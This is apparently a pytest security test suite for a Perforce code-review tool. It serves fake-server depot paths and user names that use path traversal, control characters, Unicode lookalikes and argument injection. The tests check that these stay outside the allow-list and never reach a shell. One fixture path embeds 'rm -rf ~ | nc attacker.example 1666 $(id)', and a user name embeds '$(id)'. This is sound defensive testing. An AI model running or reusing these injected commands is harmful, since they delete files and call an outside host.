"""Hostile depot paths and user names against the real p4 boundary: a fixture depot that lists
hostile paths, served by the fake p4 (events/bin/p4) in a child process.

Two things are asserted throughout: nothing reaches a shell (argument lists, shell=False, argv
inspected through the fake p4's P4FAKE_LOG), and nothing escapes the depot allow-list (a denied
path never appears in any p4 command). The rules that need no process are in
tests/unit/perforce/test_hostile_inputs.py.
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import p4review.perforce.fetcher as p4_fetcher
import p4review.perforce.runner as p4_runner
from p4review.change.depot_paths import DepotAllowList
from p4review.fetch.settings import FetchSettings
from p4review.fetch.stage import FetchWork
from p4review.models.change import ChangedFile, DiffStatus
from p4review.models.job import ChangeKind, ReviewJob
from p4review.perforce import ChangeFetcher, P4Runner
from p4review_dev.support.harness import p4_commands

ROOT = Path(__file__).resolve().parents[3]
FAKE_P4 = str(ROOT / "events" / "bin" / "p4")
ALLOWED = ["//depot/ok/..."]
SHELL_FILE = "//depot/ok/semi; rm -rf ~ | nc attacker.example 1666 $(id) `id` && y.c"
# Every path the hostile server lists, with the reason the allow-list refuses it.
HOSTILE = {
    "//secret/keys/prod.pem": "outside_allow_list",
    "//depot/ok/../secret/x.c": "outside_allow_list",
    "//depot/ok/../../secret/x.c": "climbs_above_root",
    "//depot/ok/%2E%2E/%2E%2E/secret/x.c": "climbs_above_root",
    "//depot/secret/%2E%2E/ok/x.c": "non_canonical",
    "//depot/secret/../ok/x.c": "non_canonical",
    "//depot/ok//x.c": "non_canonical",
    "-p evil:1666": "not_depot_syntax",
    "-G": "not_depot_syntax",
    "depot/ok/relative.c": "not_depot_syntax",
    "//depot/ok/x\nb.c": "control_character",
    "//depot/ok/x\x00b.c": "control_character",
    "//depot/ok/\x1b]0;pwned\x07.c": "control_character",
    "//depot/ok\u2215..\u2215secret/x.c": "lookalike_character",
    "//depot/ok\uff0f..\uff0fsecret/x.c": "lookalike_character",
    "//depot/ok\u2044secret.c": "lookalike_character",
    "//depot/ok/\u202egnp.exe": "invisible_character",
    "//depot/ok/a\u200b.c": "invisible_character",
    "//depot/ok/x.c#1": "revision_specifier",
    "//depot/ok/x.c@=2": "revision_specifier",
    "//depot/ok/*": "wildcard",
    "//depot/ok/...": "wildcard",
    "//depot/ok/%%1": "wildcard",
}
# Fragments that appear in no allowed path: none may show up in a p4 argv.
HOSTILE_FRAGMENTS = (
    "secret",
    "evil",
    "relative",
    "\n",
    "\x00",
    "\x1b",
    "\u2215",
    "\uff0f",
    "\u2044",
    "\u202e",
    "\u200b",
    "x.c#",
    "x.c@",
    "*",
    "...",
    "%%",
    "//x.c",
)


# --- a hostile server ---------------------------------------------------------------------------------
def _write_depot(root: Path) -> None:
    files = [
        {"depotFile": "//depot/ok/a.c", "action": "add", "type": "text", "rev": 1},
        {"depotFile": SHELL_FILE, "action": "add", "type": "text", "rev": 1},
    ]
    files += [{"depotFile": path, "action": "add", "type": "text", "rev": 1} for path in HOSTILE]
    (root / "changes").mkdir(parents=True)
    (root / "changes" / "10.json").write_text(
        json.dumps(
            {
                "change": 10,
                "user": "mallory",
                "client": "c",
                "time": 1715594551,
                "status": "submitted",
                "desc": "hostile",
                "files": files,
            }
        )
    )
    shelf = [
        {"depotFile": "//depot/ok/b.c", "action": "add", "type": "text", "rev": 1},
        {"depotFile": "//secret/b.c", "action": "add", "type": "text", "rev": 1},
    ]
    (root / "changes" / "2.json").write_text(
        json.dumps(
            {
                "change": 2,
                "user": "mallory",
                "client": "c",
                "time": 1715594551,
                "status": "pending",
                "desc": "hostile shelf",
                "files": [],
                "shelf_versions": [{"version": 1, "time": 1715594600, "files": shelf}],
            }
        )
    )
    revisions = {f"{path}#1": f"content of {path}\n" for path in ["//depot/ok/a.c", SHELL_FILE, *HOSTILE]}
    (root / "archive" / "packs").mkdir(parents=True)
    (root / "archive" / "packs" / "1.json").write_text(json.dumps({"revisions": revisions}))
    for path in ("depot/ok/b.c", "secret/b.c"):
        blob = root / "archive" / f"{path},d" / "shelf-2-v1"
        blob.parent.mkdir(parents=True)
        blob.write_text(f"shelved //{path}\n")
    (root / "users.json").write_text(json.dumps({}))


@pytest.fixture(scope="module")
def depot(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile-depot")
    _write_depot(root)
    return root


@pytest.fixture
def log_file(tmp_path) -> Path:
    return tmp_path / "p4-argv.jsonl"


def logged(log_file: Path) -> list[dict]:
    return [json.loads(line) for line in log_file.read_text().splitlines()] if log_file.exists() else []


def hostile_fetcher(depot: Path, log_file: Path) -> ChangeFetcher:
    runner = P4Runner(FAKE_P4, timeout_seconds=30, env={"P4FAKE_DEPOT": str(depot), "P4FAKE_LOG": str(log_file)})
    return ChangeFetcher(runner, allow_list=DepotAllowList(ALLOWED))


class MetricsRecorder:
    def __init__(self) -> None:
        self.names: list[str] = []

    def add_metric(self, *, name: str, unit: str, value: float) -> None:
        self.names.append(name)


@pytest.fixture
def recorded_metrics(monkeypatch) -> MetricsRecorder:
    recorder = MetricsRecorder()
    monkeypatch.setattr(p4_fetcher, "metrics", recorder)
    return recorder


def security_events(caplog) -> list[logging.LogRecord]:
    return [r for r in caplog.records if getattr(r, "security_event", None) == "depot_path_denied"]


# --- paths from the server -------------------------------------------------------------------------------
@pytest.mark.spec("SEC-3", "SEC-5", "SEC-6", "RV-15")
def test_hostile_server_paths_are_skipped_and_never_reach_p4(depot, log_file, recorded_metrics):
    snapshot = hostile_fetcher(depot, log_file).fetch(10, ChangeKind.SUBMITTED, job_id="job-1")
    result = {diff.depot_path: (diff.status.value, diff.skip_reason) for diff in snapshot.diffs}
    assert result == {
        "//depot/ok/a.c": ("fetched", None),
        SHELL_FILE: ("fetched", None),
        **{path: ("skipped", "outside_allow_list") for path in HOSTILE},
    }
    assert snapshot.changed_files == [diff.depot_path for diff in snapshot.diffs]  # coverage lists every file
    argvs = p4_commands(log_file)  # an argument file's lines included
    assert argvs[0] == ["-G", "describe", "-s", "10"]
    # The depot policy is looked for only above allowed files, and only where the list allows.
    assert argvs[1] == ["-G", "files", "//depot/ok/.p4review.toml@9"]  # in force before change 10
    # One print names the allowed files, and only them, in one batch with the hostile ones left out.
    assert argvs[2:] == [["-G", "print", "//depot/ok/a.c#1", f"{SHELL_FILE}#1"]]
    flat = "\x01".join(arg for argv in argvs for arg in argv)
    assert not any(fragment in flat for fragment in HOSTILE_FRAGMENTS)
    assert recorded_metrics.names == ["SecurityPathDenied"] * len(HOSTILE)


@pytest.mark.spec("SEC-6")
def test_shelved_change_denies_the_same_way(depot, log_file, recorded_metrics):
    snapshot = hostile_fetcher(depot, log_file).fetch(2, ChangeKind.SHELVED)
    assert [(d.depot_path, d.skip_reason) for d in snapshot.diffs] == [
        ("//depot/ok/b.c", None),
        ("//secret/b.c", "outside_allow_list"),
    ]
    assert p4_commands(log_file) == [
        ["-G", "describe", "-s", "-S", "2"],
        ["-G", "files", "//depot/ok/.p4review.toml#head"],  # a shelf reads the policy in force now
        ["-G", "print", "//depot/ok/b.c@=2"],
    ]


@pytest.mark.spec("SEC-7")
def test_each_denial_is_one_sanitized_security_event(depot, log_file, recorded_metrics, caplog):
    caplog.set_level(logging.INFO, logger="p4review")
    hostile_fetcher(depot, log_file).fetch(10, ChangeKind.SUBMITTED, job_id="job-7")
    events = security_events(caplog)
    assert len(events) == len(HOSTILE) and all(event.levelno == logging.WARNING for event in events)
    by_path = {event.depot_path: event for event in events}
    assert by_path["//depot/ok/x\\x0ab.c"].reason == "control_character"  # escaped, not raw
    assert by_path["//depot/ok/\\u202egnp.exe"].reason == "invisible_character"
    assert by_path["//depot/ok/../secret/x.c"].normalized_path == "//depot/secret/x.c"
    assert {event.reason for event in events} == set(HOSTILE.values())
    for event in events:
        where = (event.check, event.job_id, event.changelist_id, event.change_kind)
        assert where == ("describe", "job-7", 10, "submitted")
        assert not re.search(r"[\x00-\x1f\x7f\u200b\u202e]", event.depot_path + (event.normalized_path or ""))
        assert "content of" not in f"{event.getMessage()} {event.__dict__}"  # never file content


@pytest.mark.spec("SEC-5")
def test_second_check_before_a_path_is_written_to_the_print(depot, log_file, recorded_metrics, caplog, monkeypatch):
    # A list that changed between the two checks (or a file that did not come through them both):
    # the first check lets everything through, the second, per file, refuses.
    caplog.set_level(logging.INFO, logger="p4review")
    fetcher = hostile_fetcher(depot, log_file)
    description = fetcher.describe(10, ChangeKind.SUBMITTED)
    smuggled = ChangedFile(depot_path="//secret/keys/prod.pem", action="add", file_type="text", revision=1)
    monkeypatch.setattr(fetcher, "denied_files", lambda *_args, **_kwargs: set())
    [diff] = fetcher.iter_file_diffs(description.model_copy(update={"files": [smuggled]}), job_id="job-9")
    assert (diff.status, diff.skip_reason) == (DiffStatus.SKIPPED, "outside_allow_list")
    [event] = security_events(caplog)
    assert (event.check, event.reason, event.job_id) == ("fetch", "outside_allow_list", "job-9")
    assert len(logged(log_file)) == 1 and recorded_metrics.names == ["SecurityPathDenied"]  # describe only


def test_shell_metacharacters_in_an_allowed_path_are_one_literal_token(depot, log_file, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    snapshot = hostile_fetcher(depot, log_file).fetch(10, ChangeKind.SUBMITTED)
    shell_diff = next(d for d in snapshot.diffs if d.depot_path == SHELL_FILE)
    assert f"+content of {SHELL_FILE}" in shell_diff.unified_diff
    assert p4_commands(log_file)[-1] == ["-G", "print", "//depot/ok/a.c#1", f"{SHELL_FILE}#1"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p4-argv.jsonl"]  # nothing ran in a shell


def test_popen_gets_an_argument_list_shell_false_and_a_minimal_env(depot, log_file, monkeypatch):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAPARENT")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "parent-secret")
    calls: list[tuple[Any, dict]] = []
    real_popen = subprocess.Popen

    def recording_popen(args, **kwargs):
        calls.append((args, kwargs))
        return real_popen(args, **kwargs)

    monkeypatch.setattr(p4_runner.subprocess, "Popen", recording_popen)
    hostile_fetcher(depot, log_file).fetch(10, ChangeKind.SUBMITTED)
    assert len(calls) == 3  # describe, the depot policy, one print of both files
    for args, kwargs in calls:
        assert isinstance(args, list) and all(isinstance(arg, str) for arg in args) and args[0] == FAKE_P4
        assert kwargs["shell"] is False and kwargs["stdin"] is subprocess.DEVNULL
        assert not any(name.startswith("AWS_") for name in kwargs["env"])


def test_a_user_name_with_shell_syntax_is_one_literal_token(depot, log_file):
    assert hostile_fetcher(depot, log_file).user("$(id);`id`|x").user == "$(id);`id`|x"
    assert logged(log_file)[0]["argv"] == ["-G", "user", "-o", "$(id);`id`|x"]


# --- the fetch stage end to end ----------------------------------------------------------------------------
class Secrets:
    def __init__(self, value: dict) -> None:
        self.value = value

    def get_json(self, secret_id: str) -> dict:
        assert secret_id == "p4-secret"
        return self.value

    def invalidate(self, secret_id: str) -> None:  # pragma: no cover
        pass


class Artifacts:
    def __init__(self) -> None:
        self.stored: dict[str, dict] = {}

    def put_json(self, key: str, document: dict) -> None:
        self.stored[key] = document

    def get_json(self, key: str) -> dict:  # pragma: no cover
        return self.stored[key]

    @contextlib.contextmanager
    def json_writer(self, key: str):
        buffer = io.BytesIO()
        yield buffer
        self.stored[key] = json.loads(buffer.getvalue())


class OpenLease:
    def check(self) -> None:
        pass


@pytest.mark.spec("RV-8")
def test_fetch_stage_enforces_the_configured_list_with_credentials_only_in_env(tmp_path, monkeypatch, caplog):
    ticket = "T1CKET-0123456789abcdef"
    log_file = tmp_path / "argv.jsonl"
    # The runner passes only the secret's p4 variables, so a wrapper points the fake at its log.
    wrapper = tmp_path / "p4"
    wrapper.write_text(
        f"#!/bin/sh\nP4FAKE_LOG='{log_file}' P4FAKE_TICKET='{ticket}' exec '{sys.executable}' '{FAKE_P4}' \"$@\"\n"
    )
    wrapper.chmod(0o755)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "parent-secret")
    monkeypatch.setattr(p4_fetcher, "metrics", MetricsRecorder())
    caplog.set_level(logging.INFO, logger="p4review")
    settings_ = FetchSettings.model_validate(
        {
            **{name: "unused" for name in FetchSettings.required_env_vars()},
            "P4REVIEW_ENV": "prod",
            "P4REVIEW_P4_EXECUTABLE": str(wrapper),
            "P4REVIEW_P4_SECRET_ID": "p4-secret",
            "P4REVIEW_DEPOT_ALLOW_LIST": '["//depot/services/telemetry/main/uploader/..."]',
        }
    )
    raw, redacted = Artifacts(), Artifacts()
    secret = {"P4PORT": "ssl:perforce:1666", "P4USER": "svc-p4review", "P4TICKET": ticket}
    job = ReviewJob(
        job_id="job-42",
        idempotency_key="k",
        request_fingerprint="f",
        changelist_id=48234,
        review_version=1,
        kind=ChangeKind.SUBMITTED,
        created_at="2026-11-22T10:00:00.000Z",
        updated_at="2026-11-22T10:00:00.000Z",
    )
    FetchWork(settings_, raw, redacted, Secrets(secret)).run(job, OpenLease())  # type: ignore[arg-type]

    [document] = raw.stored.values()
    [redacted_document] = redacted.stored.values()
    assert redacted_document["snapshot"]["description"]["changelist_id"] == 48234
    reasons = {d["depot_path"].rsplit("/", 1)[1]: d["skip_reason"] for d in document["diffs"]}
    assert reasons == {
        "uploader-staging.key": "outside_allow_list",
        "staging.ini": "outside_allow_list",
        "settings.py": None,
    }
    entries = logged(log_file)
    # The one policy candidate the list allows, then settings.py's two sides in one print: the
    # diff is made from them, and the new side is also what the analyzers read.
    settings_py = "//depot/services/telemetry/main/uploader/settings.py"
    assert p4_commands(log_file)[1:] == [
        ["-G", "files", "//depot/services/telemetry/main/uploader/.p4review.toml@48233"],
        ["-G", "print", f"{settings_py}#2", f"{settings_py}#3"],
    ]
    for entry in entries:
        assert {"P4PORT", "P4USER", "P4PASSWD"} <= set(entry["env"]) and "P4TICKET" not in entry["env"]
        assert not any(name.startswith("AWS_") for name in entry["env"])
        assert not any(ticket in arg or "svc-p4review" in arg or "perforce:1666" in arg for arg in entry["argv"])
    events = security_events(caplog)
    assert sorted(event.depot_path.rsplit("/", 1)[1] for event in events) == ["staging.ini", "uploader-staging.key"]
    assert {(event.job_id, event.changelist_id) for event in events} == {("job-42", 48234)}
    assert ticket not in caplog.text
